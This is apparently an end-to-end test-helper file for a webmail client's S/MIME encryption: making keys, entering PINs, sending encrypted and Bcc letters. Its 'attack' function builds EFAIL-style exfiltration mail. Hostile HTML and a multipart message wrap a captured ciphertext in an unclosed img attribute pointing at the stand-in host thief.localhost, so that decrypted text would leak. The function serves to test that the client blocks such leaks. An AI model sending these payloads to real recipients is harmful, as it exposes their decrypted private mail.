import { expect, type Page } from '@playwright/test'
import { createTransport } from 'nodemailer'
import keysEn from '../../remote-keys/src/messages/en.ts'
import keysZh from '../../remote-keys/src/messages/zh.ts'
import { encryptPart, fromBase64, fromText, readCertificate } from '../../shared/cms/src/index.ts'
import { newMail } from '../compose/desk.ts'
import { type Api, PASSWORD } from '../support/api.ts'
import { violations } from '../support/axe.ts'
import { goTo, type Person } from '../support/people.ts'
import { type Issued, type KeyServer, PIN } from './keyServer.ts'

const WORDS = { zh: keysZh, en: keysEn }
/** What stands encrypted in the letters. */
export const SECRET = '收购价格是三亿'

/** Makes a key on the page of keys, as a person does. */
export async function makeKey({ page, language }: Person): Promise<void> {
  const words = WORDS[language]
  await goTo(page, '/set/smime')
  await page.getByRole('button', { name: words.keys.make, exact: true }).click()
  const dialog = page.getByRole('dialog', { name: words.make.title })
  await dialog.getByRole('radio', { name: words.kinds['p-256'] }).check()
  await dialog.getByLabel(words.pin.new, { exact: true }).fill(PIN)
  await dialog.getByLabel(words.pin.again, { exact: true }).fill(PIN)
  await dialog.getByRole('button', { name: words.make.go, exact: true }).click()
  await confirmPassword(page, language)
  await expect(page.getByText(words.states.waiting)).toBeVisible()
  await page.getByRole('button', { name: words.intro.close, exact: true }).click()
}

/** Enters the login password where it is asked for: a session that was just opened has it. */
async function confirmPassword(page: Page, language: 'zh' | 'en'): Promise<void> {
  const words = WORDS[language]
  const question = page.getByRole('dialog', { name: words.login.title })
  const done = page.getByText(words.make.done)
  await expect(question.or(done).first()).toBeVisible()
  if (await done.isVisible()) return
  await question.getByLabel(words.login.password, { exact: true }).fill(PASSWORD)
  await question.getByRole('button', { name: words.go, exact: true }).click()
}

/** Signs out by the menu of the top bar, without loading the page again. */
export async function signOut({ page, words }: Person): Promise<void> {
  await page.getByRole('button', { name: words.shell.topBar.more, exact: true }).first().click()
  await page.getByRole('menuitem', { name: words.shell.topBar.signOut }).click()
  await expect(page.getByRole('button', { name: words.login.submit, exact: true })).toBeVisible()
}

/** Waits for a mail in the inbox. */
export async function mailCalled(api: Api, subject: string): Promise<number> {
  let mailId = 0
  await expect(async () => {
    mailId = (await api.inbox()).find((mail) => mail.subject.endsWith(subject))?.mailId ?? 0
    expect(mailId).toBeGreaterThan(0)
  }).toPass({ timeout: 60_000 })
  return mailId
}

export async function enterPin(page: Page, language: 'zh' | 'en'): Promise<void> {
  const words = WORDS[language]
  const dialog = page.getByRole('dialog', { name: words.unlock.title })
  await dialog.getByLabel(words.pin.own, { exact: true }).fill(PIN)
  await dialog.getByRole('button', { name: words.unlock.go, exact: true }).click()
  await expect(dialog).toHaveCount(0)
}

/** Sends an encrypted letter whose subject is encrypted too, with the writer's own address in Bcc, and opens that copy. */
export async function sendHidden(writer: Person, subject: string): Promise<void> {
  const { page } = writer
  const letter = await newMail(page)
  await letter.to.fill('li.na@yanshu.test')
  await letter.to.press('Enter')
  await page.getByRole('button', { name: '密送', exact: true }).filter({ visible: true }).click()
  const blind = page.getByRole('combobox', { name: '密送' })
  await blind.fill('wang.fang@yanshu.test')
  await blind.press('Enter')
  await letter.subject.fill(subject)
  await letter.text.click()
  await page.keyboard.type(SECRET)
  const option = page.getByRole('group', { name: keysZh.write.legend })
  await option.getByRole('checkbox', { name: keysZh.write.encrypt, exact: true }).check()
  await option.getByRole('checkbox', { name: keysZh.write.hideSubject }).check()
  await expect(option).toContainText('1 位密送收件人各收到单独加密的一份')
  expect(await violations(page, { include: 'main' })).toEqual([])
  const asked = page.waitForRequest('**/api/mail/email/send')
  await letter.send.click()
  const { options } = (await asked).postDataJSON()
  const copies = [{ address: 'wang.fang@yanshu.test', part: expect.any(String) }]
  expect(options['remote-keys.protection']).toMatchObject({ encrypt: true, hideSubject: true, copies })
  const mailId = await mailCalled(writer.api, '[...]')
  expect((await writer.api.inbox()).some((mail) => mail.subject === subject)).toBe(false)
  await goTo(page, `/reply/0/${mailId}`)
  const card = page.getByRole('region', { name: keysZh.reading.label }).filter({ visible: true })
  await expect(card).toContainText(subject)
}

/** HTML that asks a server of its writer for something in each way that a browser knows. */
const HOSTILE = [
  '<style>@import url(http://thief.localhost/a);p{background:url(http://thief.localhost/b)}</style>',
  '<link rel=stylesheet href=http://thief.localhost/c><base href=http://thief.localhost/>',
  '<img src=http://thief.localhost/d srcset="http://thief.localhost/e 2x"><video poster=http://thief.localhost/f></video>',
  '<meta http-equiv=refresh content="0;url=http://thief.localhost/g"><iframe src=http://thief.localhost/h></iframe>',
].join('')

/**
 * Sends the reader two letters that are encrypted to them, as an attacker does who has the encrypted text of another: with HTML
 * that loads from elsewhere before it, and between parts of which one opens an attribute and the other closes it.
 */
export async function attack({ server }: KeyServer, { api }: Person, subject: string): Promise<void> {
  const { list } = await api.post('keymanagement/key/getKeyByEmail', { emails: ['li.na@yanshu.test'] })
  const certificate = readCertificate(fromBase64(list[0]?.certificates[0] ?? ''))
  const html = `${HOSTILE}<p>${SECRET}</p>`
  const part = await encryptPart(
    fromText(`Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${html}\r\n`),
    { recipients: [certificate], cipher: 'AES-256-CBC', rsa: 'PKCS1-v1_5' },
  )
  const sealed = Buffer.from(part).toString('latin1')
  const open = 'Content-Type: text/html\r\n\r\n<p>before</p><img src="http://thief.localhost/?\r\n'
  const close = 'Content-Type: text/html\r\n\r\n"><p>behind</p>\r\n'
  const mixed = `Content-Type: multipart/mixed; boundary=E\r\n\r\n--E\r\n${open}--E\r\n${sealed}\r\n--E\r\n${close}--E--\r\n`
  const transport = createTransport(server.smtpUrl)
  const [from, to] = ['thief@example.org', 'li.na@yanshu.test']
  for (const [name, body] of Object.entries({ alone: sealed, between: mixed })) {
    const raw = `From: <${from}>\r\nTo: <${to}>\r\nSubject: ${subject} ${name}\r\nMIME-Version: 1.0\r\n${body}`
    await transport.sendMail({ envelope: { from, to }, raw })
  }
  transport.close()
}

/** Sends a letter that is encrypted to one key, as another program does. */
export async function sendFromOutside(
  { server }: KeyServer,
  subject: string,
  to: string,
  { certificate }: Issued,
): Promise<void> {
  const text = `Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${SECRET}\r\n`
  const part = await encryptPart(fromText(text), {
    recipients: [certificate],
    cipher: 'AES-256-CBC',
    rsa: 'PKCS1-v1_5',
  })
  const transport = createTransport(server.smtpUrl)
  const from = 'partner@example.org'
  const head = `From: <${from}>\r\nTo: <${to}>\r\nSubject: ${subject}\r\nMIME-Version: 1.0\r\n`
  const raw = head + Buffer.from(part).toString('latin1')
  await transport.sendMail({ envelope: { from, to }, raw })
  transport.close()
}
